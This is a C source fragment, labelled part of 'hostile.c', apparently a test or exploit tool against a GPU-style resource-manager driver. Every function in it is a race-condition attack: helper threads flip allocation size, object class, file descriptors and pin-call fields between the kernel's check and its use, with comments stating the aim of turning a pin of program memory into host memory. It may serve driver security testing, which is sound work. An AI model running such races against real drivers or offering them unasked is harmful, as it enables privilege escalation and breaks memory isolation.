/* Threads that change what is looked at, between the look and the use; a part of hostile.c. */

static volatile struct memory_params racing;
static volatile struct rm_alloc racing_call;
static void *flip_size(void *big) {
    while (!atomic_load(&stop)) {
        racing.size = *(uint64_t *)big;
        racing.size = 1 * MIB;
    }
    return NULL;
}
static void *flip_class(void *unused) {
    (void)unused;
    while (!atomic_load(&stop)) {
        racing_call.class = 0x40;
        racing_call.class = 0x41;
        racing_call.root = 0;
    }
    return NULL;
}
/* race MIB ROUNDS: a thread changes what is asked for between check and use. Keeps whatever it gets. */
static void attack_race(char **a) {
    struct session s = begin();
    uint64_t big = number(a, 0, 8192) * MIB, rounds = number(a, 1, 2000), got = 0, denied = 0;
    racing.owner = s.client;
    pthread_t thread;
    pthread_create(&thread, NULL, flip_size, &big);
    for (uint64_t i = 0; i < rounds; i++) {
        uint32_t handle = 0;
        if (rm_alloc(s.control, s.client, s.device, &handle, 0x40, (void *)&racing, sizeof racing)) denied++;
        else got++;
    }
    atomic_store(&stop, 1);
    pthread_join(thread, NULL);
    say("got", got);
    say("denied", denied);
    for (;;) pause();
}
/* What is a client when it is looked at is memory when it is executed. */
static void attack_race_class(char **a) {
    struct session s = begin();
    uint64_t rounds = number(a, 0, 2000);
    struct memory_params params = {.owner = s.client, .size = 4096 * MIB};
    pthread_t thread;
    pthread_create(&thread, NULL, flip_class, NULL);
    for (uint64_t i = 0; i < rounds; i++) {
        racing_call.root = s.client, racing_call.parent = s.device, racing_call.handle = 0;
        racing_call.params = (uintptr_t)&params, racing_call.params_size = sizeof params;
        params.size = 4096 * MIB;
        ioctl(s.control, RM(0x2b, struct rm_alloc), &racing_call);
    }
    atomic_store(&stop, 1);
    pthread_join(thread, NULL);
    say("done", rounds);
    for (;;) pause();
}
static int shuffled_control, shuffled_other;
static void *shuffle_files(void *fd) {
    while (!atomic_load(&stop)) {
        dup2(shuffled_other, *(int *)fd);
        dup2(shuffled_control, *(int *)fd);
        close(*(int *)fd);
    }
    return NULL;
}
/* The descriptor is closed, and another file put there, while the call is under way. */
static void attack_close(char **a) {
    struct session s = begin();
    uint64_t rounds = number(a, 0, 3000);
    int fd = dup(s.control), path = open("/dev/null", O_PATH);
    /* Not the driver's file. The kernel would say EBADF, as no call goes to a path. */
    struct rm_alloc elsewhere = {.class = 0x41};
    say("elsewhere", ioctl(path, RM(0x2b, struct rm_alloc), &elsewhere) < 0 ? -errno : 0);
    shuffled_control = s.control, shuffled_other = open("/dev/null", O_RDWR);
    pthread_t thread;
    pthread_create(&thread, NULL, shuffle_files, &fd);
    long kinds[3] = {0};
    for (uint64_t i = 0; i < rounds; i++) {
        struct memory_params params = {.owner = s.client, .size = 64 * MIB};
        uint32_t handle = 0;
        long status = rm_alloc(fd, s.client, s.device, &handle, 0x40, &params, sizeof params);
        kinds[status == 0 ? 0 : status > 0 ? 1 : 2]++;
    }
    atomic_store(&stop, 1);
    pthread_join(thread, NULL);
    say("got", kinds[0]);
    say("denied", kinds[1]);
    say("failed", kinds[2]);
    for (;;) pause();
}
static struct rm_pin racing_pin;
/* Client and parent, handle and class, which lie beside each other; 0: stays as it is. */
static _Atomic uint64_t place, honest, dishonest;
static void *flip_pin(void *unused) {
    (void)unused;
    volatile uint64_t *words = (volatile uint64_t *)&racing_pin;
    while (!atomic_load(&stop)) {
        uint64_t own = atomic_load(&place);
        if (own) words[0] = own;
        words[1] = atomic_load(&dishonest);
        if (own) words[0] = own;
        words[1] = atomic_load(&honest);
    }
    return NULL;
}
/* race-pin ROUNDS MIB [name|hidden|client]: a call that is to pin memory of the program's is turned into one for memory of the host's, under its
 * own name, another one, one that is higher than that of other such memory, or one in the program's own client. Only the kernel can execute it, so
 * nobody can copy it before. */
static void attack_race_pin(char **a) {
    struct session s = begin();
    uint64_t rounds = number(a, 0, 1500), piece = number(a, 1, 4) * MIB, made[3] = {0};
    const char *how = a[0] && a[1] && a[2] ? a[2] : "";
    int other_name = *how != 0;
    say("registered", register_card(&s));
    if (*how && strcmp(how, "name")) {
        /* Whoever is told of the lowest handle is told of this one. */
        uint32_t lowest = 0x10;
        long status = host_memory(&s, MIB, &lowest);
        if (status) say("lowest", status);
    }
    if (!strcmp(how, "client")) atomic_store(&place, s.client | (uint64_t)s.device << 32);
    void *at = mmap(NULL, piece, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_POPULATE, -1, 0);
    if (at == MAP_FAILED) die("mmap");
    pthread_t thread;
    for (uint64_t i = 0; i < rounds; i++) {
        uint32_t handle = 0x71000000 + i, other = other_name ? 0x1000 + i : handle;
        atomic_store(&honest, handle | 0x71ull << 32);
        atomic_store(&dishonest, other | 0x3eull << 32);
        if (!i) pthread_create(&thread, NULL, flip_pin, NULL);
        racing_pin = pin_call(&s, handle, at, piece);
        ioctl(s.card, RM(0x27, struct rm_pin), &racing_pin);
        uint32_t class = class_of(&s, handle);
        if (class == 0x71) made[0]++, rm_free(s.control, s.client, handle);
        else if (class == 0x3e || (other_name && class_of(&s, other) == 0x3e)) made[1]++;
        else made[2]++;
    }
    atomic_store(&stop, 1);
    pthread_join(thread, NULL);
    say("own", made[0]);
    say("neither", made[2]);
    say("host", made[1]);
}
